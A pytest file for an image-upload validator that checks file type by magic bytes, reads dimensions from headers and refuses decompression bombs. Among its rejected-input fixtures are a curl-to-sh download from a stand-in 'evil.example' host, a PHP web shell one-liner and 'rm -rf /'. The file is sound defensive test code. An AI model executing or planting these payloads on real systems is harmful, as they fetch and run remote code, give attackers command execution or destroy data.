"""The checks on an upload's raw bytes: type from magic bytes, dimensions from the header."""

from __future__ import annotations

import io
import struct
import zlib

import pillow_heif
import pytest
from PIL import Image

from services.media_storage.media.checks import (
    ImageType,
    Rejected,
    RejectReason,
    check,
    header_size,
    sniff,
)

MB = 1024 * 1024
pillow_heif.register_heif_opener()  # to write HEIC test files


def ispe(width: int, height: int) -> bytes:
    """A HEIF image spatial extents box (a full box: version and flags, width, height)."""
    return struct.pack(">I4sIII", 20, b"ispe", 0, width, height)


def boxed(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", 8 + len(body)) + kind + body


def heic_declaring(*sizes: tuple[int, int], brands: bytes = b"heicmif1") -> bytes:
    """The boxes of a HEIC up to its images' extents (ftyp, meta > iprp > ipco > ispe)."""
    ftyp = boxed(b"ftyp", brands[:4] + b"\0\0\0\0" + brands)
    ipco = boxed(b"ipco", b"".join(ispe(w, h) for w, h in sizes))
    meta = boxed(b"meta", b"\0\0\0\0" + boxed(b"hdlr", b"\0" * 24) + boxed(b"iprp", ipco))
    return ftyp + meta + boxed(b"mdat", b"\0" * 64)


def encoded(fmt: str, size: tuple[int, int], **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "green").save(out, fmt, **options)
    return out.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares its size and carries one tiny IDAT (enough for a header check)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (encoded("JPEG", (8, 8)), ImageType.JPEG),
        (encoded("PNG", (8, 8)), ImageType.PNG),
        (encoded("WEBP", (8, 8)), ImageType.WEBP),
        (encoded("HEIF", (8, 8)), ImageType.HEIC),
        (heic_declaring((8, 8), brands=b"mif1heic"), ImageType.HEIC),
        (heic_declaring((8, 8), brands=b"avifmif1"), None),  # AV1, not HEVC
        (b"#!/bin/sh\ncurl http://evil.example/x | sh\n", None),
        (b"<?php system($_GET['c']); ?>", None),
        (b"GIF89a" + b"\0" * 20, None),
        (b"%PDF-1.7\n", None),
        (b"RIFF\0\0\0\0WAVEfmt ", None),
        (b"", None),
    ],
)
def test_type_comes_from_the_magic_bytes(data: bytes, expected: ImageType | None) -> None:
    assert sniff(data) == expected


@pytest.mark.parametrize(
    ("fmt", "options"),
    [
        ("JPEG", {}),
        ("JPEG", {"progressive": True}),
        ("PNG", {}),
        ("WEBP", {}),  # VP8 (lossy)
        ("WEBP", {"lossless": True}),  # VP8L
        ("HEIF", {}),
    ],
)
def test_dimensions_are_read_from_the_header(fmt: str, options: dict[str, object]) -> None:
    data = encoded(fmt, (1234, 568), **options)
    kind = sniff(data)
    assert kind is not None
    assert header_size(data, kind) == (1234, 568)


def test_a_heic_is_as_large_as_its_largest_image() -> None:
    # A phone's HEIC: a 320 px thumbnail, the 4032 × 3024 primary, a smaller depth map.
    data = heic_declaring((320, 240), (4032, 3024), (768, 576))
    assert header_size(data, ImageType.HEIC) == (4032, 3024)
    bomb = heic_declaring((320, 240), (50_000, 50_000))
    with pytest.raises(Rejected) as refused:
        check(bomb, max_bytes=10 * MB, max_pixels=40_000_000)
    assert refused.value.reason is RejectReason.TOO_MANY_PIXELS


def test_extended_webp_and_jpeg_with_an_exif_thumbnail_report_the_main_image() -> None:
    exif = Image.Exif()
    exif[0x010F] = "PhoneCo"  # Make
    webp = encoded("WEBP", (640, 480), exif=exif.tobytes())
    assert webp[12:16] == b"VP8X"
    assert header_size(webp, ImageType.WEBP) == (640, 480)
    # An APP1 segment holding a whole small JPEG (its own SOF) comes before the real frame.
    thumb = encoded("JPEG", (16, 12))
    app1 = b"\xff\xe1" + struct.pack(">H", len(thumb) + 8) + b"Exif\0\0" + thumb
    photo = encoded("JPEG", (800, 600))
    assert header_size(photo[:2] + app1 + photo[2:], ImageType.JPEG) == (800, 600)


def test_a_decompression_bomb_is_refused_from_its_header() -> None:
    bomb = png_header_only(50_000, 50_000)
    assert len(bomb) < 200
    with pytest.raises(Rejected) as refused:
        check(bomb, max_bytes=10 * MB, max_pixels=40_000_000)
    assert refused.value.reason is RejectReason.TOO_MANY_PIXELS
    # The limit is on width × height: a long thin image under it passes.
    assert check(png_header_only(40_000, 1_000), max_bytes=10 * MB, max_pixels=40_000_000) == (
        ImageType.PNG,
        40_000,
        1_000,
    )


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"#!/bin/sh\nrm -rf /\n", RejectReason.NOT_AN_IMAGE),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF", RejectReason.UNREADABLE),  # cut before any frame
        (b"\xff\xd8\xff\xda\x00\x08" + b"\0" * 16, RejectReason.UNREADABLE),  # scan, no frame
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR", RejectReason.UNREADABLE),  # truncated
        (png_header_only(0, 10), RejectReason.UNREADABLE),
        (b"RIFF\0\0\0\0WEBPVP8 " + b"\0" * 20, RejectReason.UNREADABLE),  # no start code
        (heic_declaring(), RejectReason.UNREADABLE),  # no extents at all
        (heic_declaring((640, 480))[:40], RejectReason.UNREADABLE),  # a box cut short
        (b"\xff\xd8\xff" + b"\0" * (2 * MB), RejectReason.TOO_LARGE),
    ],
)
def test_what_is_refused_and_why(data: bytes, reason: RejectReason) -> None:
    with pytest.raises(Rejected) as refused:
        check(data, max_bytes=MB, max_pixels=40_000_000)
    assert refused.value.reason is reason


def test_an_ordinary_photo_passes() -> None:
    assert check(encoded("JPEG", (4000, 3000)), max_bytes=10 * MB, max_pixels=40_000_000) == (
        ImageType.JPEG,
        4000,
        3000,
    )
